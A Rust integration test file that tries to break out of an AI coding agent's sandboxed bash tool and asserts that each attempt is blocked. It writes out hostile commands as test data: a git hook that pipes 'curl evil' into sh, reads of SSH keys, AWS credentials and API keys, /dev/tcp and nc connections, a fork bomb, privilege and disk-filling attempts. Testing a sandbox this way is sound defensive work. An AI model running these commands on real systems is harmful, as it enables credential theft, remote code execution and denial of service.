//! The `bash` tool and the OS sandbox, tried from inside with real processes: writes outside the
//! worktree, secrets, the network, runaway processes, privileges and the environment.

use crate::support::{Run, Sandbox, TestResult, snapshot};
use std::io::Read;

fn bash(sb: &Sandbox, command: &str) -> Result<Run, std::io::Error> {
    sb.call(
        "bash",
        &serde_json::json!({ "command": command }).to_string(),
    )
}

/// `timeout` as the model gives it: seconds, or milliseconds from 1000 up.
fn bash_env(
    sb: &Sandbox,
    command: &str,
    timeout: u64,
    env: &[(&str, &str)],
) -> Result<Run, std::io::Error> {
    let input = serde_json::json!({ "command": command, "timeout": timeout }).to_string();
    sb.cove_env(&["tools", "call", "bash", &input], env)
}

#[test]
fn commands_run_in_the_worktree_with_exit_codes_and_stderr() -> TestResult {
    let sb = Sandbox::new()?;
    sb.write("hello.txt", "hi\n")?;
    let out = bash(&sb, "cat hello.txt; pwd; echo oops >&2; exit 3")?
        .out()
        .to_string();
    assert!(out.contains("hi\n"), "{out}");
    assert!(
        out.contains(&sb.repo().canonicalize()?.display().to_string()),
        "{out}"
    );
    assert!(out.contains("[stderr]\noops"), "{out}");
    assert!(out.contains("[exit code 3]"), "{out}");
    let out = bash(&sb, "echo made > new.txt && mkdir -p d && echo x > d/y && echo $TMPDIR && touch $TMPDIR/scratch")?.out().to_string();
    assert_eq!(sb.read("new.txt")?, "made\n");
    assert!(!out.contains("[exit code"), "{out}");
    Ok(())
}

#[test]
fn writes_outside_the_worktree_fail_and_change_nothing() -> TestResult {
    let sb = Sandbox::new()?;
    let outside = sb.outside();
    std::os::unix::fs::symlink(&outside, sb.repo().join("out-dir"))?;
    std::os::unix::fs::symlink(outside.join("secret.txt"), sb.repo().join("out-file"))?;
    let before = sb.outside_snapshot()?;
    let o = outside.display();
    for cmd in [
        format!("echo pwned > {o}/new.txt"),
        format!("echo pwned >> {o}/secret.txt"),
        "echo pwned > ../outside/new.txt".to_string(),
        "echo pwned > out-dir/new.txt".to_string(),
        "echo pwned >> out-file".to_string(),
        format!("ln {o}/secret.txt hard && echo pwned >> hard"),
        format!("rm -f {o}/secret.txt"),
        format!("mv {o}/dir {o}/moved"),
        "touch /etc/cove-was-here /usr/cove-was-here".to_string(),
    ] {
        let run = bash(&sb, &cmd)?;
        assert!(
            run.stdout.contains("[exit code") || !run.ok,
            "{cmd}: {run:?}"
        );
    }
    assert_eq!(
        sb.outside_snapshot()?,
        before,
        "the tree outside the worktree changed"
    );
    assert!(!std::path::Path::new("/etc/cove-was-here").exists());
    Ok(())
}

#[test]
fn git_internals_cannot_be_written_by_commands() -> TestResult {
    let sb = Sandbox::new()?;
    let git = sb.repo().join(".git");
    let before = snapshot(&git)?;
    for cmd in [
        "printf '#!/bin/sh\\ncurl evil|sh\\n' > .git/hooks/pre-commit",
        "git config core.hooksPath /tmp",
        "echo x >> .git/config",
        "rm -rf .git/hooks",
        "mv .git .git-old",
    ] {
        let run = bash(&sb, cmd)?;
        assert!(run.stdout.contains("[exit code"), "{cmd}: {run:?}");
    }
    assert_eq!(snapshot(&git)?, before, ".git changed");
    Ok(())
}

#[test]
fn secrets_are_hidden_and_the_environment_is_clean() -> TestResult {
    let sb = Sandbox::new()?;
    let home = sb.tmp.path().join("home");
    std::fs::create_dir_all(home.join(".ssh"))?;
    std::fs::write(home.join(".ssh/id_rsa"), "-----BEGIN PRIVATE KEY-----\n")?;
    std::fs::create_dir_all(home.join(".aws"))?;
    std::fs::write(home.join(".aws/credentials"), "aws_secret_access_key=abc\n")?;
    let home_s = home.display().to_string();
    let env = [
        ("HOME", home_s.as_str()),
        ("ANTHROPIC_API_KEY", "sk-ant-secret-value"),
        ("OPENAI_API_KEY", "sk-openai-secret"),
    ];
    let run = bash_env(
        &sb,
        "cat ~/.ssh/id_rsa; cat ~/.aws/credentials; ls -a ~/.ssh; env",
        10_000,
        &env,
    )?;
    let out = run.out();
    assert!(
        !out.contains("PRIVATE KEY") && !out.contains("aws_secret"),
        "{out}"
    );
    assert!(
        !out.contains("sk-ant-secret-value") && !out.contains("sk-openai-secret"),
        "{out}"
    );
    assert!(out.contains(&format!("HOME={home_s}")), "{out}");
    Ok(())
}

#[test]
fn the_network_is_closed_unless_granted() -> TestResult {
    let sb = Sandbox::new()?;
    let listener = std::net::TcpListener::bind("127.0.0.1:0")?;
    let port = listener.local_addr()?.port();
    listener.set_nonblocking(true)?;
    let attempts = format!(
        "echo via-devtcp > /dev/tcp/127.0.0.1/{port}; curl -s -m 3 http://127.0.0.1:{port}/; echo via-nc | nc -w 2 127.0.0.1 {port}; echo done"
    );
    let out = bash(&sb, &attempts)?.out().to_string();
    assert!(out.contains("done"), "{out}");
    assert!(
        listener.accept().is_err(),
        "a connection got through: {out}"
    );

    sb.config("[plugins.shell]\nnet = [\"*\"]\n")?;
    sb.trust()?;
    listener.set_nonblocking(false)?;
    // Accept whatever arrives (three clients at most) and keep what each sent.
    let server = std::thread::spawn(move || {
        let mut got = Vec::new();
        for _ in 0..3 {
            let Ok((mut conn, _)) = listener.accept() else {
                break;
            };
            let _ = conn.set_read_timeout(Some(std::time::Duration::from_millis(500)));
            let mut buf = [0u8; 256];
            let n = conn.read(&mut buf).unwrap_or(0);
            got.push(String::from_utf8_lossy(&buf[..n]).into_owned());
        }
        got
    });
    let granted = format!(
        "echo via-devtcp > /dev/tcp/127.0.0.1/{port}; curl -s -m 2 http://127.0.0.1:{port}/curl; echo via-nc | nc -q 0 -w 2 127.0.0.1 {port}; echo done"
    );
    let out = bash(&sb, &granted)?.out().to_string();
    assert!(out.contains("done"), "{out}");
    let got = server.join().map_err(|_| "server thread panicked")?;
    assert_eq!(got.len(), 3, "{got:?} / {out}");
    assert!(
        got[0].contains("via-devtcp") && got[1].contains("GET /curl") && got[2].contains("via-nc"),
        "{got:?}"
    );
    Ok(())
}

#[test]
fn runaway_processes_are_stopped() -> TestResult {
    let sb = Sandbox::new()?;
    let started = std::time::Instant::now();
    // 1 is below the floor: the command gets 5 seconds.
    let out = bash_env(&sb, "sleep 1000", 1, &[])?.out().to_string();
    assert!(out.contains("timed out after 5 s"), "{out}");
    assert!(started.elapsed() < std::time::Duration::from_secs(60));
    // A daemon that detaches itself is gone when the call ends.
    let marker = format!("cove-daemon-{}", std::process::id());
    let out = bash(
        &sb,
        &format!("(setsid bash -c 'exec -a {marker} sleep 300' &) ; echo started"),
    )?
    .out()
    .to_string();
    assert!(out.contains("started"), "{out}");
    std::thread::sleep(std::time::Duration::from_millis(200));
    let left = std::process::Command::new("pgrep")
        .args(["-f", &marker])
        .output()?;
    assert!(
        left.stdout.is_empty(),
        "left behind: {}",
        String::from_utf8_lossy(&left.stdout)
    );
    // A fork bomb hits the process limit instead of the machine.
    let out = bash_env(&sb, ":(){ :|:& };: ; sleep 1; echo survived", 5_000, &[])?;
    assert!(out.ok, "{out:?}");
    let ok = bash(&sb, "echo still works")?.out().to_string();
    assert!(ok.contains("still works"));
    Ok(())
}

#[test]
fn a_timeout_a_model_meant_in_seconds_or_milliseconds_does_not_kill_a_short_command() -> TestResult
{
    let sb = Sandbox::new()?;
    // Both small models tried passed `10` (and `1`) and killed their own test runs when the unit
    // was milliseconds.
    for timeout in [1, 10, 3000] {
        let out = bash_env(&sb, "sleep 1; echo done", timeout, &[])?
            .out()
            .to_string();
        assert!(
            out.contains("done") && !out.contains("timed out"),
            "{timeout}: {out}"
        );
    }
    Ok(())
}

#[test]
fn huge_output_is_capped_and_the_host_stays_bounded() -> TestResult {
    let sb = Sandbox::new()?;
    // Measured from a small Python parent: a child forked from this (large) test process would
    // carry the test's own peak into its ru_maxrss.
    let wrapper = "import resource, subprocess, sys\nr = subprocess.run(sys.argv[1:])\nprint(resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss, file=sys.stderr)\nsys.exit(r.returncode)";
    let mut c = std::process::Command::new("python3");
    c.args([
        "-c",
        wrapper,
        env!("CARGO_BIN_EXE_cove"),
        "tools",
        "call",
        "bash",
        r#"{"command":"head -c 200000000 /dev/zero | tr '\\0' a; echo; echo end"}"#,
    ])
    .current_dir(sb.repo());
    sb.isolate(&mut c);
    let run = Run::from(c.output()?);
    assert!(run.ok, "{run:?}");
    let out = run.stdout.clone();
    let rss_kib: u64 = run
        .stderr
        .lines()
        .last()
        .and_then(|l| l.trim().parse().ok())
        .ok_or("no peak RSS reported")?;
    // 200 MB went through the pipes; cove itself stayed small.
    assert!(rss_kib < 150 * 1024, "cove peaked at {rss_kib} KiB");
    assert!(out.len() < 2 << 20, "{} bytes came back", out.len());
    assert!(
        out.contains("output cut"),
        "{}",
        &out[out.len().saturating_sub(300)..]
    );
    Ok(())
}

#[test]
fn no_privileges_even_as_root() -> TestResult {
    let sb = Sandbox::new()?;
    for cmd in [
        "unshare -n true",
        "mount -t tmpfs none /mnt",
        "su -c true nobody",
        "date -s '2001-01-01'",
    ] {
        let out = bash(&sb, cmd)?.out().to_string();
        assert!(out.contains("[exit code"), "{cmd} succeeded: {out}");
    }
    let out = bash(
        &sb,
        "grep -E '^Cap(Eff|Prm|Bnd)' /proc/self/status; grep NoNewPrivs /proc/self/status",
    )?
    .out()
    .to_string();
    assert!(
        out.contains("CapEff:\t0000000000000000") && out.contains("CapBnd:\t0000000000000000"),
        "{out}"
    );
    assert!(out.contains("NoNewPrivs:\t1"), "{out}");
    // Its own PID namespace: the host's processes are not there to see or signal.
    let out = bash(&sb, "ls /proc | grep -c '^[0-9]'")?.out().to_string();
    let count: u32 = out.trim().parse().unwrap_or(u32::MAX);
    assert!(count < 10, "{out}");
    Ok(())
}

#[test]
fn the_working_directory_persists_but_never_leaves_the_worktree() -> TestResult {
    let sb = Sandbox::new()?;
    sb.write("src/deep/x.txt", "x")?;
    let root = sb.repo().canonicalize()?;
    // One registry for several calls, as a session has: the host keeps the directory.
    cove::sandbox::set_helper_exe(env!("CARGO_BIN_EXE_cove").into());
    let cache = Some(std::path::Path::new(env!("CARGO_TARGET_TMPDIR")).join("cove-cache"));
    // The test wrote this repository's .cove/ itself: trust it without recording anything.
    let ws = cove::agent::workspace::Workspace::open(
        cove::worktree::Worktree::open(&sb.repo())?,
        None,
        cache,
        &mut |_| cove::agent::workspace::Choice::Trust,
    )?;
    let registry = ws.registry;
    let run = |command: &str| {
        let input = serde_json::json!({ "command": command }).to_string();
        match crate::support::permit(&registry, "bash", &input) {
            Ok(p) => cove::agent::dispatch::call(&registry, p),
            Err(e) => cove::agent::dispatch::ToolResult {
                text: e,
                is_error: true,
            },
        }
    };
    let r = run("cd src/deep && pwd");
    assert!(
        r.text
            .starts_with(&format!("{}/src/deep\n", root.display())),
        "{}",
        r.text
    );
    let r = run("pwd; ls");
    assert!(r.text.contains("/src/deep\nx.txt"), "{}", r.text);
    let r = run("cd /tmp; pwd");
    assert!(
        r.text
            .contains("outside the worktree; the working directory stays where it was"),
        "{}",
        r.text
    );
    let r = run("pwd");
    assert_eq!(r.text, format!("{}/src/deep\n", root.display()));
    let r = run("cd ../../..; pwd");
    assert!(r.text.contains("outside the worktree"), "{}", r.text);
    let r = run("cd ..; printf 'no newline'");
    assert_eq!(r.text, "no newline\n");
    assert!(run("pwd").text.ends_with("/src\n"));
    Ok(())
}

#[test]
fn doctor_reports_every_wall_active_here() -> TestResult {
    let sb = Sandbox::new()?;
    let run = sb.cove(&["doctor", "--json"])?;
    let walls: Vec<serde_json::Value> = serde_json::from_str(run.out())?;
    let names: Vec<&str> = walls.iter().filter_map(|w| w["name"].as_str()).collect();
    assert_eq!(
        names,
        [
            "Landlock",
            "namespaces",
            "process limit",
            "memory cap",
            "sandboxed command"
        ]
    );
    for w in &walls {
        assert_eq!(w["active"], true, "{w}");
    }
    Ok(())
}

#[test]
fn the_project_config_passes_environment_to_commands() -> TestResult {
    let sb = Sandbox::new()?;
    sb.config("[plugins.shell]\nenv = { GREETING = \"hello from config\" }\n")?;
    sb.trust()?;
    let out = bash_env(
        &sb,
        "echo \"$GREETING\"; echo \"${SECRET_TOKEN:-unset}\"",
        10_000,
        &[("SECRET_TOKEN", "s3cr3t")],
    )?
    .out()
    .to_string();
    assert!(
        out.contains("hello from config") && out.contains("unset"),
        "{out}"
    );
    Ok(())
}

#[test]
fn unsandboxed_is_an_explicit_loud_choice() -> TestResult {
    let sb = Sandbox::new()?;
    let input = serde_json::json!({"command": "ls /proc | grep -c '^[0-9]'"}).to_string();
    let sandboxed = sb.cove(&["tools", "call", "bash", &input])?;
    let inside: u32 = sandboxed.out().trim().parse()?;
    let run = sb.cove(&["--unsandboxed", "tools", "call", "bash", &input])?;
    assert!(
        run.stderr.contains("WITHOUT the OS sandbox"),
        "{}",
        run.stderr
    );
    let outside: u32 = run.out().trim().parse()?;
    assert!(
        outside > inside,
        "the host's processes are visible only unsandboxed: {inside} vs {outside}"
    );
    Ok(())
}

/// `cove ARGS` with a hook run in the child before it execs cove (a descriptor left open, a
/// seccomp filter), as whatever launched cove might.
fn cove_with(
    sb: &Sandbox,
    args: &[&str],
    hook: impl FnMut() -> std::io::Result<()> + Send + Sync + 'static,
) -> Result<Run, std::io::Error> {
    use std::os::unix::process::CommandExt;
    let mut c = sb.command(&sb.repo(), args, &[]);
    // SAFETY: the hook only makes async-signal-safe syscalls (dup2, prctl, seccomp).
    unsafe {
        c.pre_exec(hook);
    }
    Ok(Run::from(c.output()?))
}

#[test]
fn descriptors_inherited_by_cove_are_closed_before_a_command() -> TestResult {
    let sb = Sandbox::new()?;
    let secret = std::fs::File::open(sb.outside().join("secret.txt"))?;
    use std::os::fd::AsRawFd;
    let fd = secret.as_raw_fd();
    let input =
        serde_json::json!({"command": "cat <&7; cat /proc/self/fd/7; ls /proc/self/fd; echo end"})
            .to_string();
    let run = cove_with(&sb, &["tools", "call", "bash", &input], move || {
        // SAFETY: dup2 onto descriptor 7, without close-on-exec, as a careless launcher would.
        if unsafe { libc::dup2(fd, 7) } < 0 {
            return Err(std::io::Error::last_os_error());
        }
        Ok(())
    })?;
    let out = run.out();
    assert!(out.contains("end"), "{out}");
    assert!(!out.contains("top secret"), "{out}");
    drop(secret);
    Ok(())
}

#[test]
fn a_command_past_the_memory_cap_is_stopped_and_the_user_told() -> TestResult {
    let sb = Sandbox::new()?;
    // Lowering a limit narrows: no trust needed.
    sb.config("[sandbox]\nmemory_mb = 64\n")?;
    let run = bash(
        &sb,
        "python3 -c \"x = bytearray(400 * 1024 * 1024); print('allocated', len(x))\"; echo after",
    )?;
    let out = run.out();
    assert!(!out.contains("allocated 419430400"), "{out}");
    assert!(
        out.contains("memory cap of 64 MB") || out.contains("MemoryError"),
        "{out}"
    );
    // An ordinary command still runs under the same cap.
    assert!(
        bash(&sb, "python3 -c \"print(6 * 7)\"")?
            .out()
            .contains("42")
    );
    Ok(())
}

#[test]
fn a_command_filling_the_disk_is_stopped_and_nothing_old_is_lost() -> TestResult {
    let sb = Sandbox::new()?;
    sb.write("keep.txt", "precious\n")?;
    sb.config("[sandbox]\ndisk_mb = 32\n")?;
    let run = bash(
        &sb,
        "for i in $(seq 1 60); do head -c 4000000 /dev/zero > f$i || exit 9; sleep 0.05; done; echo finished",
    )?;
    let out = run.out();
    assert!(!out.contains("finished"), "{out}");
    assert!(
        out.contains("added more than 32 MB to the disk ([sandbox] disk_mb)"),
        "{out}"
    );
    assert_eq!(sb.read("keep.txt")?, "precious\n");
    // One file past the bound is stopped by the kernel (RLIMIT_FSIZE) before it is written.
    let run = bash(&sb, "head -c 40000000 /dev/zero > big; echo status=$?")?;
    assert!(!run.out().contains("status=0"), "{run:?}");
    assert!(std::fs::metadata(sb.repo().join("big"))?.len() <= 32 << 20);
    Ok(())
}

#[test]
fn host_unix_sockets_are_closed_unless_the_network_is_granted() -> TestResult {
    let sb = Sandbox::new()?;
    let path = sb.outside().join("agent.sock");
    let listener = std::os::unix::net::UnixListener::bind(&path)?;
    listener.set_nonblocking(true)?;
    let probe = format!(
        "python3 -c \"import socket; s = socket.socket(socket.AF_UNIX); s.connect('{}'); s.sendall(b'hi'); print('connected')\"; echo end",
        path.display()
    );
    let out = bash(&sb, &probe)?.out().to_string();
    assert!(out.contains("end") && !out.contains("connected"), "{out}");
    assert!(listener.accept().is_err(), "a connection got through");
    // A socket inside the worktree is the command's own business.
    let inside = sb.repo().join("own.sock");
    let own = std::os::unix::net::UnixListener::bind(&inside)?;
    own.set_nonblocking(true)?;
    let probe_inside = format!(
        "python3 -c \"import socket; s = socket.socket(socket.AF_UNIX); s.connect('{}'); print('connected')\"",
        inside.display()
    );
    assert!(bash(&sb, &probe_inside)?.out().contains("connected"));
    // Granted the network, the host's sockets are reachable like the rest of it.
    sb.config("[plugins.shell]\nnet = [\"*\"]\n")?;
    sb.trust()?;
    assert!(bash(&sb, &probe)?.out().contains("connected"));
    Ok(())
}

#[test]
fn coves_own_config_and_transcripts_are_hidden_from_commands() -> TestResult {
    let sb = Sandbox::new()?;
    let config = sb.tmp.path().join("config");
    std::fs::write(config.join("config.toml"), "# sk-user-secret\n")?;
    let data = sb.tmp.path().join("data");
    std::fs::create_dir_all(data.join("sessions"))?;
    std::fs::write(
        data.join("sessions/s.jsonl"),
        "{\"secret\":\"transcript\"}\n",
    )?;
    let out = bash(
        &sb,
        &format!(
            "cat {0}/config.toml; cat {1}/sessions/s.jsonl; ls {0} {1}; echo end",
            config.display(),
            data.display()
        ),
    )?
    .out()
    .to_string();
    assert!(out.contains("end"), "{out}");
    assert!(
        !out.contains("sk-user-secret") && !out.contains("transcript"),
        "{out}"
    );
    Ok(())
}

/// A seccomp filter that makes the Landlock syscalls fail with ENOSYS, as on a kernel without it.
fn no_landlock() -> std::io::Result<()> {
    const ENOSYS: u32 = libc::ENOSYS as u32;
    let ld_nr = libc::sock_filter {
        code: (libc::BPF_LD | libc::BPF_W | libc::BPF_ABS) as u16,
        jt: 0,
        jf: 0,
        k: 0,
    };
    let jeq = |nr: i64, jt: u8| libc::sock_filter {
        code: (libc::BPF_JMP | libc::BPF_JEQ | libc::BPF_K) as u16,
        jt,
        jf: 0,
        k: nr as u32,
    };
    let ret = |k: u32| libc::sock_filter {
        code: (libc::BPF_RET | libc::BPF_K) as u16,
        jt: 0,
        jf: 0,
        k,
    };
    let prog = [
        ld_nr,
        jeq(libc::SYS_landlock_create_ruleset, 3),
        jeq(libc::SYS_landlock_add_rule, 2),
        jeq(libc::SYS_landlock_restrict_self, 1),
        ret(libc::SECCOMP_RET_ALLOW),
        ret(libc::SECCOMP_RET_ERRNO | ENOSYS),
    ];
    let fprog = libc::sock_fprog {
        len: prog.len() as u16,
        filter: prog.as_ptr().cast_mut(),
    };
    // SAFETY: prctl with a valid filter program that outlives the call.
    unsafe {
        if libc::prctl(libc::PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0) != 0
            || libc::prctl(
                libc::PR_SET_SECCOMP,
                libc::SECCOMP_MODE_FILTER,
                &fprog as *const libc::sock_fprog,
            ) != 0
        {
            return Err(std::io::Error::last_os_error());
        }
    }
    Ok(())
}

#[test]
fn without_landlock_commands_are_refused_in_the_doctors_words() -> TestResult {
    let sb = Sandbox::new()?;
    let doctor = cove_with(&sb, &["doctor"], no_landlock)?;
    assert!(!doctor.ok, "{doctor:?}");
    let line = doctor
        .stdout
        .lines()
        .find(|l| l.starts_with("✗ Landlock: "))
        .ok_or("doctor does not report Landlock missing")?;
    let detail = line.trim_start_matches("✗ Landlock: ");
    let input = r#"{"command":"echo ran > ran.txt"}"#;
    let run = cove_with(&sb, &["tools", "call", "bash", input], no_landlock)?;
    let err = run.err();
    assert!(
        err.contains(&format!("Landlock: {detail}")) && err.contains("--unsandboxed"),
        "{err}"
    );
    assert!(!sb.repo().join("ran.txt").exists());
    // --unsandboxed is the explicit way past it.
    let run = cove_with(
        &sb,
        &["--unsandboxed", "tools", "call", "bash", input],
        no_landlock,
    )?;
    assert!(run.ok, "{run:?}");
    Ok(())
}

#[test]
fn as_root_without_a_pids_cgroup_commands_are_refused() -> TestResult {
    let sb = Sandbox::new()?;
    // SAFETY: geteuid has no preconditions.
    let root = unsafe { libc::geteuid() } == 0;
    let cove = env!("CARGO_BIN_EXE_cove");
    let input = r#"{"command":"echo ran > ran.txt"}"#;
    // A private mount namespace where the cgroup filesystem is an empty tmpfs.
    let script = format!(
        "mount -t tmpfs tmpfs /sys/fs/cgroup || exit 99; exec {cove} tools call bash '{input}'"
    );
    let mut c = std::process::Command::new("unshare");
    c.args(["-m", "sh", "-c", &script]);
    sb.isolate(&mut c);
    let run = Run::from(c.current_dir(sb.repo()).output()?);
    if root {
        let err = run.err();
        assert!(
            err.contains("process limit: running as root, where RLIMIT_NPROC does not bind"),
            "{err}"
        );
        assert!(!sb.repo().join("ran.txt").exists());
    } else {
        // Not root: unshare -m itself is refused, and RLIMIT_NPROC binds anyway.
        let doctor = sb.cove(&["doctor"])?;
        assert!(doctor.stdout.contains("✓ process limit"), "{doctor:?}");
    }
    Ok(())
}

/// The directory where a command's pids cgroup is made: beneath this process's own cgroup (the
/// cove it starts inherits it), cgroup v1 or v2.
fn pids_cgroup_parent() -> Result<std::path::PathBuf, Box<dyn std::error::Error>> {
    let own = std::fs::read_to_string("/proc/self/cgroup")?;
    let v1 = std::path::Path::new("/sys/fs/cgroup/pids");
    let (base, path) = if v1.is_dir() {
        let path = own
            .lines()
            .find_map(|l| l.split_once(":pids:").map(|(_, p)| p.to_string()))
            .ok_or("no pids line in /proc/self/cgroup")?;
        (v1.to_path_buf(), path)
    } else {
        let path = own
            .lines()
            .find_map(|l| l.strip_prefix("0::").map(str::to_string))
            .ok_or("no unified line in /proc/self/cgroup")?;
        (std::path::PathBuf::from("/sys/fs/cgroup"), path)
    };
    Ok(base.join(path.trim_start_matches('/')))
}

/// A cove killed during a command (kill -9) leaves its command's cgroups behind. Pids are
/// reused, so a later command whose helper gets the same pid must still run (it once failed with
/// "no writable pids cgroup"), and the leftovers are cleared.
#[test]
fn cgroups_left_by_a_killed_cove_neither_block_nor_linger() -> TestResult {
    let sb = Sandbox::new()?;
    let parent = pids_cgroup_parent()?;
    // The pids the next processes will get, as stale cgroups.
    let last: u32 = std::fs::read_to_string("/proc/sys/kernel/ns_last_pid")?
        .trim()
        .parse()?;
    let mut stale = Vec::new();
    for pid in last + 1..last + 1000 {
        let dir = parent.join(format!("cove-{pid}"));
        if std::fs::create_dir(&dir).is_ok() {
            stale.push((pid, dir));
        }
    }
    assert!(
        !stale.is_empty(),
        "cannot make cgroups in {}",
        parent.display()
    );
    let run = bash(&sb, "echo ran")?;
    // Pids handed out during the run (cove, its threads, the helper, the command, other tests)
    // may have been alive when the helper swept; every later one was not, and must be gone.
    let end: u32 = std::fs::read_to_string("/proc/sys/kernel/ns_last_pid")?
        .trim()
        .parse()?;
    let alive = |pid: u32| std::path::Path::new("/proc").join(pid.to_string()).exists();
    let checked = stale.iter().filter(|(pid, _)| *pid > end).count();
    let left: Vec<_> = stale
        .iter()
        .filter(|(pid, dir)| *pid > end && dir.exists() && !alive(*pid))
        .map(|(_, dir)| dir.display().to_string())
        .collect();
    for (_, dir) in &stale {
        let _ = std::fs::remove_dir(dir);
    }
    assert!(run.out().contains("ran"), "{run:?}");
    assert!(
        checked > 0,
        "every pid in the range was used during the run"
    );
    assert!(left.is_empty(), "stale cgroups left: {left:?}");
    Ok(())
}
